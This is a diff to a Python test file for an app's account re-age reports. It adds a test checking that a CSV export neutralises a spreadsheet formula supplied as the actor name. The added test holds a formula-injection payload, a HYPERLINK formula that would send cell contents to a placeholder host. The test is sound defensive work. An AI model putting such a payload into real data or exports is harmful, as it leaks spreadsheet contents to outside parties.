@@ -1,5 +1,7 @@
 """Re-ages of an account's own clock: listed, flagged when money came back, taken back."""
 
+import csv
+
 import pytest
 
 from app.schemas.reages import ListedAccountReAgeRead, UndoneAccountReAgeRead
@@ -96,3 +98,13 @@ async def test_one_whose_payment_came_back_is_flagged_wherever_it_is_shown(desk,
     file = (await desk.client.get("/v1/reports/re-ages.csv")).text.splitlines()
     assert "flagged_on,flagged_because" in file[0]
     assert all(",".join(flag) in line for line in file[1:])
+
+
+async def test_an_actor_that_begins_a_formula_is_inert_in_the_export(desk):
+    account, _ = await late(desk)
+    formula = '=HYPERLINK("http://x/?"&A1)'
+    desk.client.headers["Accord-Actor"] = formula
+    await re_age_account(desk, account)
+
+    file = csv.DictReader((await desk.client.get("/v1/reports/re-ages.csv")).text.splitlines())
+    assert [row["actor"] for row in file] == [f"'{formula}"]
